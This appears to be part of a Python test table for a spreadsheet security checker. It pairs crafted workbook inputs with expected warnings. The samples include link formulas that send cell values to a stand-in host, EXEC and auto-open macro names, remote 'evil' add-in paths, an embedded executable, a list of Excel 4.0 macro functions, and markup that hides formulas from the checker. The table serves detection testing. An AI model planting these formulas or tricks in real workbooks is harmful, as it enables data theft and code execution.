    "a link in a formula": (
        cell('=HYPERLINK("http://x.org","#here")'),
        ['DCF!CL3: has a link that leads to http://x.org: =HYPERLINK("http://x.org","#here")'],
    ),
    "a calculated link": (
        cell('=HYPERLINK("h"&"ttp://x.org/?"&Inputs!D9)'),
        ['DCF!CL3: has a link that leads to a calculated address: '
         '=HYPERLINK("h"&"ttp://x.org/?"&Inputs!D9)'],
    ),
    "a link by way of a cell": (
        lambda package: changed(package, {
            FREE: "=hyperlink (CM3)", (FREE[0], (3, 91)): '="http://x.org"'}),
        ["DCF!CL3: has a link that leads to a calculated address: =hyperlink (CM3)"],
    ),
    "a file in full": (
        cell(r"='C:\mine\[rates.xlsx]Sheet1'!A1"),
        [r"DCF!CL3: refers to the file rates.xlsx: ='C:\mine\[rates.xlsx]Sheet1'!A1"],
    ),
    "the add-in on a server, in full": (
        cell(r"='\\server\offtake.xlam'!DCF_WACC(1)"),
        [r"DCF!CL3: refers to offtake.xlam by a path that is on another machine: "
         r"='\\server\offtake.xlam'!DCF_WACC(1)"],
    ),
    **{
        f"the add-in in a formula, as {path}": (
            cell(f"='{path}'!DCF_WACC(1)"),
            [f"DCF!CL3: refers to offtake.xlam by a path that {fault}: ='{path}'!DCF_WACC(1)"],
        )
        for path, fault in (
            ("file://evil/s/offtake.xlam", "is on another machine"),
            ("file:////evil/s/offtake.xlam", "is on another machine"),
            (r"/\evil\s\offtake.xlam", "is on another machine"),
            ("ftp://evil/s/offtake.xlam", "is an address"),
            (r"C:\Users\Public\offtake.xlam", "is in the folder Public, which others may write to"),
        )
    },
    "a file in full after one by its number": (
        both(linked("offtake.xlam"), cell(rf"=[1]!DCF_WACC(1)+{AWAY}")),
        [rf"DCF!CL3: refers to the file x.xlsx: =[1]!DCF_WACC(1)+{AWAY}"],
    ),
    "a rule": (
        put("xl/worksheets/sheet7.xml", "<pageMargins", RULE.format('RTD("x",,"y")')),
        ["xl/worksheets/sheet7.xml: the element formula of the sheet DCF calls RTD: "
         '=RTD("x",,"y")'],
    ),
    "permitted entries": (
        put("xl/worksheets/sheet7.xml", "<pageMargins", ENTRY.format("call(1)")),
        ["xl/worksheets/sheet7.xml: the element formula1 of the sheet DCF calls CALL: =call(1)"],
    ),
    "a newer rule": (
        put("xl/worksheets/sheet7.xml", "</worksheet>", EXTENSION.format("_xlfn.IMAGE(A1)")),
        ["xl/worksheets/sheet7.xml: the element xm:f of the sheet DCF calls IMAGE: "
         "=_xlfn.IMAGE(A1)"],
    ),
    "a name": (
        name("Rate", 'EXEC("calc.exe")'),
        ['xl/workbook.xml: the name Rate calls EXEC: =EXEC("calc.exe")'],
    ),
    "a name with a link": (
        name("There", 'HYPERLINK("http://x.org/?"&DCF!$A$1)'),
        ["xl/workbook.xml: the name There has a link that leads to a calculated address: "
         '=HYPERLINK("http://x.org/?"&DCF!$A$1)'],
    ),
    "a hidden name that opens": (
        name("_xlnm.Auto_Open", "Macro1!$A$1", 'hidden="1"'),
        ["xl/workbook.xml: the hidden name _xlnm.Auto_Open runs a macro when the file is opened or "
         "closed: =Macro1!$A$1"],
    ),
    "a name of a macro": (
        name("Evil", "#N/A", 'vbProcedure="1"'),
        ["xl/workbook.xml: the name Evil belongs to a macro: =#N/A"],
    ),
    "a name marked as a macro": (
        name("Evil", "DCF!$A$1", 'macro="1"'),
        ["xl/workbook.xml: the name Evil belongs to a macro: =DCF!$A$1"],
    ),
    # Functions of the macro language (Excel 4.0 Macro Functions Reference).
    **{
        f"a name with {function}": (
            name("Rate", f'{function}("x")'),
            [f"xl/workbook.xml: the name Rate calls {function}, which is neither an Excel nor an "
             f'Offtake function: ={function}("x")'],
        )
        for function in (
            *("APP.ACTIVATE", "CREATE.OBJECT", "DOCUMENTS", "FILE.DELETE", "FPOS", "FSIZE"),
            *("GET.CELL", "LINKS", "ON.TIME", "OPEN", "RUN", "SAVE.AS", "SEND.KEYS", "SEND.MAIL"),
        )
    },
    # Parts.
    "a program": (
        add("xl/payload.exe", b"MZ"),
        ["xl/payload.exe: is a part that neither Offtake nor spreadsheets usually write"],
    ),
    "a relationship of an unknown kind": (
        add("xl/styles2.xml", "<x/>", BOOK, "http://x.org/evil"),
        ["xl/styles2.xml: is of the unknown kind 'evil', as xl/_rels/workbook.xml.rels has it"],
    ),
    "two kinds of one part": (
        both(relate(BOOK, f"{MICROSOFT}/vbaProject", "/xl/styles.xml"),
             relate(BOOK, "styles", "/xl/styles.xml")),
        ["xl/styles.xml: cannot be compared with Offtake's: the file is not a compound file"],
    ),
    "cells with a prefix": (
        put("xl/worksheets/sheet7.xml", "</sheetData>", '<m:row r="900" xmlns:m="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main"><m:c r="A900"><m:f>WEBSERVICE("x")</m:f>'
            "</m:c></m:row></sheetData>"),
        ["xl/worksheets/sheet7.xml: has elements that a spreadsheet may read but this check does "
         "not"],
    ),
    "a choice of names": (
        put(BOOK, "</workbook>", '<mc:AlternateContent xmlns:mc="x"><mc:Choice><definedNames>'
            '<definedName name="Evil">EXEC("x")</definedName></definedNames></mc:Choice>'
            "</mc:AlternateContent></workbook>"),
        ["xl/workbook.xml: has elements that a spreadsheet may read but this check does not"],
    ),
    "a choice of cells": (
        put("xl/worksheets/sheet7.xml", "<pageMargins", '<mc:AlternateContent xmlns:mc="x">'
            "<mc:Choice><sheetData/></mc:Choice></mc:AlternateContent><pageMargins"),
        ["xl/worksheets/sheet7.xml: has elements that a spreadsheet may read but this check does "
         "not"],
    ),
    "a base of all links": (
        put("docProps/app.xml", "</Properties>", "<HyperlinkBase>//server</HyperlinkBase>"
            "</Properties>"),
        ["docProps/app.xml: has an address that links begin with: //server"],
    ),
    "a picture of an old drawing": (
        add("xl/drawings/vmlDrawing1.vml", '<xml xmlns:v="urn:x"><v:imagedata src="file://server/x"'
            "/></xml>", INPUTS, "vmlDrawing"),
        ["xl/drawings/vmlDrawing1.vml: refers to file://server/x, outside of the file"],
    ),
    "another workbook": (
        put("_rels/.rels", 'officeDocument" Target="xl/workbook.xml"',
            'officeDocument" Target="xl/worksheets/sheet99.xml"'),
        ["xl/worksheets/sheet99.xml: is what a spreadsheet opens, and this check has read "
         "xl/workbook.xml"],
    ),
}  # fmt: skip
